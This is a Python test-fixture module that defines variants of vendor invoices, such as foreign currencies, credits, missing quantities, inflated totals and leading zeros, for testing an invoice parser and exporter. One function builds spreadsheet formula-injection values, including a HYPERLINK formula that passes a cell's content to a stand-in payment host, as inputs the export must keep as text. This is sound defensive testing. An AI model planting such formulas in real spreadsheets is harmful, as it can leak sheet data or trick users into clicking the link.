"""Documents made from others: lines that cannot be read, totals that are too high, text that a sheet could compute."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

    Data = dict[str, object]


@dataclass(frozen=True, slots=True, kw_only=True)
class DocumentVariant:
    """The document ``base`` with ``changes`` of what it prints.

    ``kind`` is that of its golden result; ``is_whole`` says that a reader may well read all of it. ``codes`` replaces
    the codes of its first items, ``items`` is how many of them there are.
    """

    base: str
    note: str
    kind: str = "doubtful"
    changes: Mapping[str, object] = field(default_factory=dict)
    is_whole: bool = False
    items: int | None = None
    codes: tuple[str, ...] = ()


GENERIC, CREATIVE, BOOKS = (
    "unknown_vendor",
    "creative_coop_without_number",
    "harpercollins_NS4435067",
)
GIFTS, PAPER, PAPER_SPLIT = (
    "onehundred80_1T25194476NCHR",
    "rifle_paper_3363053",
    "rifle_paper_J7XM9XQ3HB",
)
_BASES = {
    "creative_coop": CREATIVE,
    "harpercollins": BOOKS,
    "onehundred80": GIFTS,
    "rifle_paper": PAPER,
    "rifle_paper_split": PAPER_SPLIT,
    "generic": GENERIC,
}


def _line(base: str, of: str, note: str, **printed: str) -> DocumentVariant:
    return DocumentVariant(base=base, note=note, changes={"printed": {of: printed}})


_LINES = {
    "foreign_currency_creative_coop": _line(
        CREATIVE, "DF5599", "a price in EUR", your_price="EUR 6.00"
    ),
    "unreadable_code_creative_coop": _line(
        CREATIVE, "DF5599", "a code that is none of the vendor's", code="D5599-B"
    ),
    "credit_harpercollins": _line(BOOKS, "9780062883124", "a credit", quantity="-2", net="-9.00"),
    "missing_quantity_harpercollins": _line(BOOKS, "9780062883124", "no quantity", quantity=""),
    "foreign_currency_onehundred80": _line(
        GIFTS, "GZ1041", "a price in EUR", unit_price="EUR 4.50"
    ),
    "missing_quantity_onehundred80": _line(GIFTS, "GZ1041", "no quantity", quantity=""),
    "foreign_currency_rifle_paper": _line(PAPER, "CAL100", "a price in EUR", unit_price="EUR 9.00"),
    "credit_rifle_paper_split": _line(PAPER_SPLIT, "STC014", "a credit", quantity="-4"),
    "foreign_currency_generic": _line(GENERIC, "008 TIN", "a price in EUR", unit_price="EUR 9.75"),
    "credit_generic": _line(GENERIC, "008 TIN", "a credit", quantity="-12", amount="-117.00"),
    "credit_amount_generic": DocumentVariant(
        base=GENERIC,
        note="a credit whose amount alone says so",
        changes={"number": "MF-20421", "printed": {"008 TIN": {"amount": "(117.00)"}}},
    ),
    "unreadable_code_generic": DocumentVariant(
        base=GENERIC,
        note="a code without a digit, and no total that would tell",
        items=3,
        codes=("TIN-EVER",),
        changes={"number": "MF-20422", "without_total": True},
        is_whole=True,
    ),
}
_TOTALS = {
    f"higher_total_{name}": DocumentVariant(
        base=base, note="the total counts a line that is not there", changes={"unprinted": "19.99"}
    )
    for name, base in _BASES.items()
}
_DECIMAL = {
    "decimal_quantity_generic": DocumentVariant(
        base=GENERIC,
        note="a quantity of 12.00",
        changes={"printed": {"008 TIN": {"quantity": "12.00"}}},
        is_whole=True,
    )
}
_SIGNS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t=", "return": "\r="}


def _hostile(name: str, sign: str) -> DocumentVariant:
    """Vendor, number and codes begin with ``sign``; blanks are no text."""
    seen = sign.strip()
    link = f'{seen}HYPERLINK("https://pay.example/?"&B2,"Pay")'
    return DocumentVariant(
        base=GENERIC,
        kind="success",
        note=f"text that begins with {name}: no sheet may take it for a formula or a number",
        items=3,
        codes=(f"{seen}1001", f"{seen}A1001", f"{seen}2/3/2025"),
        changes={"vendor": link, "number": f"{seen}20419", "blank": sign.removesuffix(seen)},
    )


_TEXTS = {f"hostile_{name}": _hostile(name, sign) for name, sign in _SIGNS.items()} | {
    "leading_zeros": DocumentVariant(
        base=GENERIC,
        kind="success",
        note="a number and codes that begin with zeros: they are text",
        items=3,
        codes=("0012345", "007", "00E10"),
        changes={"number": "0012345"},
    ),
    "serial_date": DocumentVariant(
        base=GENERIC,
        kind="success",
        note="the date is printed as the serial number of a spreadsheet",
        items=3,
        changes={"number": "MF-20420", "date": date(2025, 1, 17), "date_printed": "45674"},
    ),
}
VARIANTS: dict[str, DocumentVariant] = _LINES | _TOTALS | _DECIMAL | _TEXTS


def apply(variant: DocumentVariant, base: Data) -> Data:
    """Return what the variant prints; ``base`` is what its base does."""
    data = base | dict(variant.changes)
    if variant.items is None:
        return data
    place = data["columns"].index("code")
    items = [list(item) for item in data["items"][: variant.items]]
    for item, code in zip(items, variant.codes, strict=False):
        item[place] = code
    return data | {"items": items}
